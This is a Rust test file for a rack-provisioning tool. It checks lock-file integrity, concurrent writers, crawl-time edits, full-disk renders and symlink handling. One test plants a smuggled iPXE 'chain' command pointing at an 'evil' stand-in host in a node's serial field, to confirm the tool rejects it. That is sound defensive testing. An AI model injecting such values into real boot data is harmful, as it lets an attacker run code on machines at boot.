//! Nothing is lost or damaged: a damaged lock is refused, not taken as "no lock"; lock
//! entries that would break the cluster are refused; two writers on one site lose nothing;
//! an edit made during a crawl survives; a render on a full disk leaves the old output whole.

use std::process::Command;
use std::time::Duration;

use crate::support::Site;

use crate::support::replay::{BmcSpec, Fleet};
use crate::support::sushy::{mockup, mockup_names};

#[test]
fn an_empty_lock_is_damage_not_absence() {
    let site = Site::example();
    for text in ["", "\n\n", "# only a comment\n"] {
        site.write("allocations.yaml", text);
        let r = site.run(&["plan", "--site", "{site}"]);
        assert_eq!(r.code, 2, "{text:?}: {}", r.stdout);
        assert!(r.stderr.contains("the lock is damaged"), "{}", r.stderr);
    }
}

#[test]
fn lock_entries_that_would_break_the_cluster_are_refused() {
    let cases: [(&str, &str, &str); 5] = [
        (
            "management_ip: \"10.10.0.21\"",
            "management_ip: \"10.10.0.10\"",
            "is the cluster VIP",
        ),
        (
            "management_ip: \"10.10.0.21\"",
            "management_ip: \"10.99.0.21\"",
            "outside the management network",
        ),
        (
            "cluster_init: 0FP95WZ",
            "cluster_init: NOPE",
            "no node would create the cluster",
        ),
        (
            "hostname: hv-m01",
            "hostname: HV_M01",
            "not a valid hostname",
        ),
        ("- id: FSTG45P", "- id: 0FP95WZ", "duplicate node id"),
    ];
    for (from, to, words) in cases {
        let site = Site::example();
        site.replace("allocations.yaml", from, to);
        let r = site.run(&["render", "--site", "{site}"]);
        assert_eq!(r.code, 2, "{to}: {}", r.stdout);
        let err = crate::support::flat(&r.stderr);
        assert!(err.contains(words), "{to}: {}", r.stderr);
        assert!(
            r.stderr.contains("allocations.yaml"),
            "names the file: {}",
            r.stderr
        );
    }
}

#[test]
fn a_second_writer_is_told_who_holds_the_site() {
    let site = Site::example();
    let _held = rackplan::files::sitelock::SiteLock::acquire(&site.dir(), Duration::ZERO).unwrap();
    let r = site.run(&["plan", "--site", "{site}"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains(&format!("pid {}", std::process::id())),
        "{}",
        r.stderr
    );
}

#[test]
fn two_releases_racing_both_land() {
    let site = Site::example();
    let lock = site.read("allocations.yaml");
    for round in 0..20 {
        site.write("allocations.yaml", &lock);
        let inv = site.inventory();
        let (a, b) = (inv.nodes[4].id.clone(), inv.nodes[5].id.clone());
        site.edit_inventory(|inv| inv.nodes.retain(|n| n.id != a && n.id != b));
        let spawn = |id: &str| {
            Command::new(env!("CARGO_BIN_EXE_rackplan"))
                .args(["--wait-lock", "30", "plan", "--site"])
                .arg(site.dir())
                .args(["--release", id])
                .output()
                .unwrap()
        };
        let (ra, rb) = std::thread::scope(|s| {
            let ha = s.spawn(|| spawn(&a));
            let hb = s.spawn(|| spawn(&b));
            (ha.join().unwrap(), hb.join().unwrap())
        });
        assert!(ra.status.success() && rb.status.success(), "round {round}");
        let now = site.read("allocations.yaml");
        assert!(
            !now.contains(&format!("id: {a}\n")),
            "round {round}: {a} kept"
        );
        assert!(
            !now.contains(&format!("id: {b}\n")),
            "round {round}: {b} kept"
        );
        // Put the two nodes back for the next round.
        site.edit_inventory(|i| *i = inv.clone());
    }
}

fn discover(dir: &std::path::Path) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_rackplan"))
        .args([
            "--output",
            "json",
            "--wait-lock",
            "60",
            "discover",
            "redfish",
            "--site",
        ])
        .arg(dir)
        .output()
        .unwrap()
}

fn bmcs_yaml(fleet: &Fleet, range: std::ops::Range<usize>) -> String {
    let mut y = String::from("bmcs:\n");
    for b in &fleet.bmcs[range] {
        y.push_str(&format!("  - address: \"{}\"\n", b.url()));
    }
    y
}

#[test]
fn two_discoveries_racing_on_one_site_lose_nothing() {
    let names = mockup_names();
    let specs: Vec<BmcSpec> = names
        .iter()
        .take(8)
        .map(|m| {
            let mut s = BmcSpec::new(&mockup(m));
            s.latency = Duration::from_millis(5);
            s
        })
        .collect();
    let fleet = Fleet::start(specs);
    for round in 0..5 {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        let site = tempfile::tempdir().unwrap();
        // Two runs on one site, each with its own bmcs.yaml (copied in just before it
        // starts reading), crawling at the same time.
        std::fs::write(a.path().join("bmcs.yaml"), bmcs_yaml(&fleet, 0..4)).unwrap();
        std::fs::write(b.path().join("bmcs.yaml"), bmcs_yaml(&fleet, 4..8)).unwrap();
        std::fs::copy(a.path().join("bmcs.yaml"), site.path().join("bmcs.yaml")).unwrap();
        let served = |range: std::ops::Range<usize>| -> usize {
            fleet.bmcs[range]
                .iter()
                .map(|b| b.stats.requests.load(std::sync::atomic::Ordering::SeqCst))
                .sum()
        };
        let before = served(0..4);
        let (ra, rb) = std::thread::scope(|s| {
            let ha = s.spawn(|| discover(site.path()));
            // Swap the file once the first run has read it (its BMCs see requests): a
            // fixed sleep lost the race on a loaded machine and both read the second file.
            let start = std::time::Instant::now();
            while served(0..4) == before && start.elapsed() < Duration::from_secs(30) {
                std::thread::sleep(Duration::from_millis(2));
            }
            std::fs::copy(b.path().join("bmcs.yaml"), site.path().join("bmcs.yaml")).unwrap();
            let hb = s.spawn(|| discover(site.path()));
            (ha.join().unwrap(), hb.join().unwrap())
        });
        assert!(
            ra.status.success(),
            "{}",
            String::from_utf8_lossy(&ra.stderr)
        );
        assert!(
            rb.status.success(),
            "{}",
            String::from_utf8_lossy(&rb.stderr)
        );
        let (inv, _) = rackplan::inventory::store::load(&site.path().join("nodes.yaml")).unwrap();
        let mut seen: Vec<String> = Vec::new();
        for r in [&ra, &rb] {
            let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
            for n in v["nodes"].as_array().unwrap() {
                seen.push(n["id"].as_str().unwrap().to_string());
            }
        }
        for id in &seen {
            assert!(
                inv.nodes.iter().any(|n| n.id == *id),
                "round {round}: {id} lost"
            );
        }
        assert!(
            inv.nodes.len() >= 7,
            "round {round}: {} nodes",
            inv.nodes.len()
        );
    }
}

#[test]
fn an_annotation_written_during_a_crawl_survives() {
    let mut spec = BmcSpec::new(&mockup("dell-poweredge-r750-idrac9-6.00"));
    let fleet0 = Fleet::start(vec![spec.clone()]);
    let site = tempfile::tempdir().unwrap();
    std::fs::write(site.path().join("bmcs.yaml"), bmcs_yaml(&fleet0, 0..1)).unwrap();
    assert!(discover(site.path()).status.success());
    drop(fleet0);
    // The second crawl is slow; a person annotates the node while it runs.
    spec.latency = Duration::from_millis(60);
    let fleet = Fleet::start(vec![spec]);
    std::fs::write(site.path().join("bmcs.yaml"), bmcs_yaml(&fleet, 0..1)).unwrap();
    let nodes = site.path().join("nodes.yaml");
    let out = std::thread::scope(|s| {
        let h = s.spawn(|| discover(site.path()));
        std::thread::sleep(Duration::from_millis(300));
        let (mut inv, _) = rackplan::inventory::store::load(&nodes).unwrap();
        inv.nodes[0].annotations.rack = Some("r42-by-hand".into());
        rackplan::inventory::store::save(&nodes, &inv).unwrap();
        h.join().unwrap()
    });
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (inv, _) = rackplan::inventory::store::load(&nodes).unwrap();
    assert_eq!(
        inv.nodes[0].annotations.rack.as_deref(),
        Some("r42-by-hand")
    );
}

#[test]
fn a_render_on_a_full_disk_leaves_the_old_output_whole() {
    if !nix_root() {
        eprintln!("skipped: mounting a small tmpfs needs root");
        return;
    }
    let site = Site::example();
    let out = site.tmp.path().join("full");
    std::fs::create_dir_all(&out).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=400k", "tmpfs"])
        .arg(&out)
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("skipped: mount -t tmpfs refused here");
        return;
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.0).status();
        }
    }
    let _u = Unmount(out.clone());
    let out_s = out.display().to_string();
    let r = site.run(&["render", "--site", "{site}", "--out", &out_s]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let before = snapshot(&out);
    // Fill the disk, change the token so every config would change, render again.
    let filler = out.join("filler");
    let _ = std::fs::write(&filler, vec![0u8; 400 * 1024]);
    site.write(
        "secrets/token.example",
        "another-cluster-token-for-this-test\n",
    );
    let r = site.run(&["render", "--site", "{site}", "--out", &out_s]);
    assert_ne!(r.code, 0, "the disk is full: {}", r.stdout);
    std::fs::remove_file(&filler).unwrap();
    assert_eq!(
        snapshot(&out),
        before,
        "the old output is intact and no temp file is left"
    );
}

fn nix_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("Uid:"))
                .map(|l| l.split_whitespace().nth(1) == Some("0"))
        })
        .unwrap_or(false)
}

/// Every file under `dir` with its bytes.
fn snapshot(dir: &std::path::Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                todo.push(p);
            } else {
                let rel = p.strip_prefix(dir).unwrap().display().to_string();
                out.push((rel, std::fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn bmc_text_with_a_newline_never_reaches_a_script() {
    let site = Site::example();
    let id = crate::support::id_of(&site, "hv-c01");
    site.edit_inventory(|inv| {
        let n = inv.nodes.iter_mut().find(|n| n.id == id).unwrap();
        n.serial = Some("ABC\nchain http://127.0.0.9/evil".into());
        n.model = Some("R750 ${net0/mac}".into());
    });
    let r = site.run(&["--output", "json", "check", "--site", "{site}"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let hits: Vec<&serde_json::Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "untrusted-text")
        .collect();
    assert_eq!(hits.len(), 2, "{hits:?}");
    assert!(
        hits.iter()
            .any(|f| f["what"].as_str().unwrap().starts_with("serial"))
    );
    assert!(
        hits.iter()
            .any(|f| f["what"].as_str().unwrap().starts_with("model"))
    );
    let out = site.tmp.path().join("out");
    let r = site.run(&[
        "render",
        "--site",
        "{site}",
        "--out",
        &out.display().to_string(),
    ]);
    assert_eq!(r.code, 1, "nothing is rendered: {}", r.stdout);
    assert!(!out.join("nodes/hv-c01/boot.ipxe").exists());
}

/// A lock, an inventory or a site file behind a symbolic link that is dangling or loops is
/// an input error naming the file, never "no lock": plan would renumber every node and
/// replace the link with a fresh file.
#[cfg(unix)]
#[test]
fn a_broken_link_is_an_input_error_not_a_missing_file() {
    use std::os::unix::fs::symlink;
    for file in ["allocations.yaml", "nodes.yaml", "site.yaml"] {
        for looping in [false, true] {
            let site = Site::example();
            let path = site.file(file);
            std::fs::remove_file(&path).unwrap();
            if looping {
                symlink("loop.yaml", &path).unwrap();
                symlink(file, site.file("loop.yaml")).unwrap();
            } else {
                symlink("gone.yaml", &path).unwrap();
            }
            let r = site.run(&["plan", "--site", "{site}"]);
            let err = crate::support::flat(&r.stderr);
            assert_eq!(r.code, 2, "{file} {looping}: {}\n{err}", r.stdout);
            let words = if looping {
                "a symbolic link that loops"
            } else {
                "which does not exist"
            };
            assert!(err.contains(words), "{file}: {err}");
            assert!(err.contains(&format!("example/{file}")), "{file}: {err}");
            assert!(err.contains("broken link"), "says what to do: {err}");
            assert!(
                std::fs::symlink_metadata(&path)
                    .unwrap()
                    .file_type()
                    .is_symlink(),
                "{file}: the link is left as it was"
            );
        }
    }
    // The lock's rendering, pinned.
    let site = Site::example();
    std::fs::remove_file(site.file("allocations.yaml")).unwrap();
    symlink("gone.yaml", site.file("allocations.yaml")).unwrap();
    let r = site.run(&["plan", "--site", "{site}"]);
    insta::assert_snapshot!(crate::support::flat(&r.stderr));
}

/// A lock behind a link to a real file keeps working.
#[cfg(unix)]
#[test]
fn a_lock_behind_a_good_link_is_read() {
    let site = Site::example();
    std::fs::rename(site.file("allocations.yaml"), site.file("real.yaml")).unwrap();
    std::os::unix::fs::symlink("real.yaml", site.file("allocations.yaml")).unwrap();
    let r = site.run(&["plan", "--site", "{site}", "--dry-run"]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
}
